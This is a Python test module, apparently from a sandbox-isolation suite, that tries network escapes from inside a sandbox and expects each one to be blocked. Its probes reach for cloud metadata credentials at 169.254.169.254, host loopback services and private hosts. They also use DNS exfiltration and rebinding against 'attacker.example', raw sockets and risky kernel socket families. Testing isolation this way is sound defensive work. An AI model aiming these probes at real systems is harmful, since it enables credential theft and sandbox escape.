"""The network: of the host, and of other sandboxes. Runs only where no interface but loopback is.

Outside, the stage is a network namespace of the test's own with servers at these addresses.
"""

from __future__ import annotations

import os
import socket
import struct
from functools import partial
from pathlib import Path

from .attack import NotHereError, StoppedError, attack, settings
from .calls import libc

NAMESPACE = "network namespace without interfaces"
FAMILIES = "seccomp: families of sockets"
UNREACHABLE = ("ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "TimeoutError")
_SECONDS = 2.0

on_network = partial(attack, "network")
reaching = partial(on_network, means=NAMESPACE, stopped_by=UNREACHABLE)


def _alone() -> None:
    """Makes sure that an attack that gets through can reach nobody but the test's own servers."""
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    names = {line.partition(":")[0].strip() for line in lines}
    if names - {"lo"}:
        raise RuntimeError(f"not started: there are the interfaces {sorted(names)}")


def _ask(address: tuple[str, int], family: int = socket.AF_INET) -> str:
    _alone()
    with socket.socket(family) as client:
        client.settimeout(_SECONDS)
        client.connect(address)
        return repr(client.recv(100))


@reaching()
def service_on_loopback() -> str:
    """A service of the host that trusts whoever comes from 127.0.0.1."""
    return _ask(("127.0.0.1", settings()["port"]))


@reaching()
def service_on_loopback_of_ipv6() -> str:
    """The same on ::1."""
    return _ask(("::1", settings()["port"]), socket.AF_INET6)


@reaching()
def service_by_mapped_address() -> str:
    """127.0.0.1 written as an address of IPv6."""
    return _ask(("::ffff:127.0.0.1", settings()["port"]), socket.AF_INET6)


@reaching()
def metadata_of_the_cloud() -> str:
    """169.254.169.254: credentials of the machine."""
    return _ask(("169.254.169.254", 80))


@reaching()
def metadata_of_the_cloud_over_ipv6() -> str:
    """fd00:ec2::254, the same over IPv6."""
    return _ask(("fd00:ec2::254", 80), socket.AF_INET6)


@reaching()
def neighbour_in_the_private_network() -> str:
    """A database at 10.0.0.5."""
    return _ask(("10.0.0.5", settings()["port"]))


@reaching()
def host_on_the_internet() -> str:
    """A public address, of documentation, that the stage serves."""
    return _ask(("203.0.113.7", 443))


def _question(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def _resolve(name: str) -> str:
    _alone()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(_SECONDS)
        client.connect(("127.0.0.53", 53))
        client.send(_question(name))
        return socket.inet_ntoa(client.recv(512)[-4:])


@reaching()
def name_server() -> str:
    """DNS over UDP: also a way to carry data out."""
    return _resolve("secret.attacker.example")


@reaching()
def name_server_over_tcp() -> str:
    """DNS over TCP."""
    _alone()
    question = _question("secret.attacker.example")
    with socket.create_connection(("127.0.0.53", 53), timeout=_SECONDS) as client:
        client.sendall(struct.pack(">H", len(question)) + question)
        return socket.inet_ntoa(client.recv(512)[-4:])


@reaching()
def rebound_name() -> str:
    """A name whose first answer is harmless and whose second is the host's own address."""
    first, second = _resolve("rebind.attacker.example"), _resolve("rebind.attacker.example")
    if first == second:
        raise StoppedError("the name was not rebound")
    return _ask((second, settings()["port"]))


@reaching()
def datagram_to_everybody() -> str:
    """A broadcast."""
    _alone()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(_SECONDS)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.sendto(b"?", ("203.0.113.255", 7777))
        return repr(client.recv(100))


@on_network(means=NAMESPACE, stopped_by=("ECONNREFUSED", "EPERM"))
def abstract_socket_of_the_host() -> str:
    """A socket without a file, such as those of session buses."""
    _alone()
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(_SECONDS)
        client.connect("\0" + settings()["abstract"])
        return repr(client.recv(100))


@on_network(means="mount namespace", stopped_by=("ENOENT",))
def socket_file_of_the_host() -> str:
    """A socket with a file, such as a container engine's."""
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(_SECONDS)
        client.connect(settings()["socket_file"])
        return repr(client.recv(100))


@on_network(means="no capabilities", stopped_by=("EPERM",))
def raw_socket() -> str:
    """A raw socket: packets of the attacker's making."""
    _alone()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "made"


def _family(name: str, number: int, kind: int, protocol: int, what: str) -> None:
    def run() -> str:
        _alone()
        descriptor = libc.socket(number, kind, protocol)
        if descriptor < 0:
            import ctypes

            error = ctypes.get_errno()
            if settings().get("outside") and os.strerror(error).startswith("Address family"):
                raise NotHereError("this kernel has no such family")
            raise OSError(error, os.strerror(error))
        os.close(descriptor)
        return "made"

    run.__name__, run.__doc__ = name, what
    on_network(means=FAMILIES, stopped_by=("EAFNOSUPPORT",))(run)


_family("packet_socket", 17, 3, 0x0300, "AF_PACKET: everything that passes an interface.")
_family("netlink_socket", 16, 3, 0, "AF_NETLINK: interfaces, routes, firewalls.")
_family("audit_socket", 16, 3, 9, "AF_NETLINK of the audit log.")
_family("socket_to_the_hypervisor", 40, 1, 0, "AF_VSOCK: the machine that this machine runs on.")
_family("crypto_socket", 38, 5, 0, "AF_ALG: the kernel's cryptography, with many holes.")
_family("express_data_path", 44, 3, 0, "AF_XDP: packets past the kernel.")
_family("key_management_socket", 15, 3, 2, "AF_KEY: the kernel's tunnels.")
_family("cluster_socket", 30, 5, 0, "AF_TIPC: modules that are loaded on demand.")
_family("bluetooth_socket", 31, 3, 1, "AF_BLUETOOTH.")


@on_network(means=NAMESPACE, stopped_by=("nobody came",))
def server_for_the_host() -> str:
    """Listens where programs of the host would connect; the stage tries to."""
    _alone()
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("127.0.0.1", settings()["listen"]))
        server.listen()
        server.settimeout(_SECONDS)
        try:
            client, _ = server.accept()
        except TimeoutError:
            raise StoppedError("nobody came") from None
        client.close()
        return "somebody came"
